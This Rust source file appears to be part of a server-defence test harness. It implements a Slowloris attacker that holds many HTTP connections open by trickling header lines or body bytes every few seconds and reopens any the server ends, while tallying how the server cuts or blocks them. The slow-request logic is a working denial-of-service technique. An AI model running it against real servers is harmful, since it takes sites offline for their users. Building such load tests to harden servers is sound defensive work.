//! Slowloris: many connections that never finish their request. Half of them send a head field by field, the others a
//! body byte by byte. One that the server ends is opened again a moment later.

use std::cmp::Reverse;
use std::collections::BinaryHeap;
use std::net::Ipv4Addr;
use std::os::fd::OwnedFd;

use archipel_testkit::chance::Chance;

use super::addresses::{Side, attacker};
use super::browser::HOST;
use super::engine::{ATTACK, Context, Load};
use super::net::{self, Key, READ, Received, Sent, Table, Token};
use super::rate::Rate;
use super::tally::Outcome;
use super::wire;

/// Connections of each address.
const CONNECTIONS_EACH: u64 = 2;
/// Time between two pieces, in microseconds.
const PIECE_US: u64 = 4_000_000;
/// Time until a connection that was ended is opened again, in microseconds.
const AGAIN_US: u64 = 1_000_000;
/// Time in which all of them come.
const ARRIVE_US: u64 = 3_000_000;

/// The attackers.
#[derive(Debug)]
pub struct Slow {
    rate: Rate,
    holders: Table<Holder>,
    /// When a connection has its next piece.
    timers: BinaryHeap<Reverse<(u64, Key)>>,
    open: u64,
    over: bool,
}

#[derive(Debug)]
struct Holder {
    address: Ipv4Addr,
    sends_body: bool,
    socket: Option<(OwnedFd, u64)>,
}

impl Slow {
    /// Attackers that have not begun. Of the rate only its times count.
    #[must_use]
    pub fn new(addresses: u64, rate: Rate, seed: u64) -> Self {
        let mut chance = Chance::new(seed);
        let (mut holders, mut timers) = (Table::default(), BinaryHeap::new());
        for number in 0..addresses * CONNECTIONS_EACH {
            let address = attacker(number / CONNECTIONS_EACH);
            let key = holders.insert(Holder { address, sends_body: number % CONNECTIONS_EACH == 0, socket: None });
            timers.push(Reverse((rate.from_us + chance.below(ARRIVE_US), key)));
        }
        Self { rate, holders, timers, open: 0, over: false }
    }

    /// Opens a connection, or sends the next piece. True where it goes on in this way.
    fn piece(&mut self, cx: &mut Context, key: Key) -> bool {
        let Some(holder) = self.holders.get(key) else { return false };
        let Some((socket, _)) = &holder.socket else {
            cx.tally.sent(Side::Attack, cx.now_us);
            let opened = net::connect(holder.address, cx.http1).ok();
            let opened = opened.filter(|socket| cx.poll.add(socket, Token::new(ATTACK, key), READ).is_ok());
            let Some(socket) = opened else {
                cx.tally.unconnected += 1;
                cx.tally.ended(Side::Attack, cx.now_us, cx.now_us, Outcome::Failed, None);
                return false;
            };
            let head = if holder.sends_body {
                format!("POST /login HTTP/1.1\r\nHost: {HOST}\r\nUser-Agent: slow\r\nContent-Length: 4096\r\n\r\n")
            } else {
                format!("GET / HTTP/1.1\r\nHost: {HOST}\r\nUser-Agent: slow\r\n")
            };
            // What does not go out at once does not go out: it is slow anyway.
            let _ = net::send(&socket, head.as_bytes());
            holder.socket = Some((socket, cx.now_us));
            self.open += 1;
            cx.tally.held_max = cx.tally.held_max.max(self.open);
            return true;
        };
        let piece: &[u8] = if holder.sends_body { b"a" } else { b"X-A: b\r\n" };
        net::send(socket, piece) != Sent::Ended
    }
}

impl Load for Slow {
    fn advance(&mut self, cx: &mut Context) {
        if self.over {
            return;
        }
        if self.rate.is_over(cx.now_us) {
            // All go at once.
            (self.holders, self.timers, self.over) = (Table::default(), BinaryHeap::new(), true);
            return;
        }
        while let Some(Reverse((due, key))) = self.timers.peek().copied()
            && due <= cx.now_us
        {
            self.timers.pop();
            let next = if self.piece(cx, key) { PIECE_US } else { AGAIN_US };
            self.timers.push(Reverse((cx.now_us + next, key)));
        }
    }

    fn ready(&mut self, cx: &mut Context, token: Token) {
        let Some(holder) = self.holders.get(token.key()) else { return };
        let Some((socket, opened_us)) = &holder.socket else { return };
        let opened_us = *opened_us;
        // Whatever the server says, it has given up waiting.
        let (outcome, reason) = match net::receive(socket, &mut cx.buffer) {
            Received::Bytes(count) => {
                let page = &cx.buffer[..count];
                let status = page.get(9..12).and_then(|digits| std::str::from_utf8(digits).ok()?.parse().ok());
                (Outcome::of(status.unwrap_or(0), None), wire::reason(page).map(str::to_owned))
            }
            Received::Wait => return,
            Received::Ended => (Outcome::Blocked, None),
        };
        cx.tally.cut += 1;
        cx.tally.ended(Side::Attack, opened_us, cx.now_us, outcome, reason.as_deref());
        if let Some((socket, _)) = holder.socket.take() {
            net::reset(socket);
        }
        self.open = self.open.saturating_sub(1);
    }

    fn is_busy(&self, now_us: u64) -> bool {
        (self.rate.from_us..self.rate.until_us).contains(&now_us)
    }
}
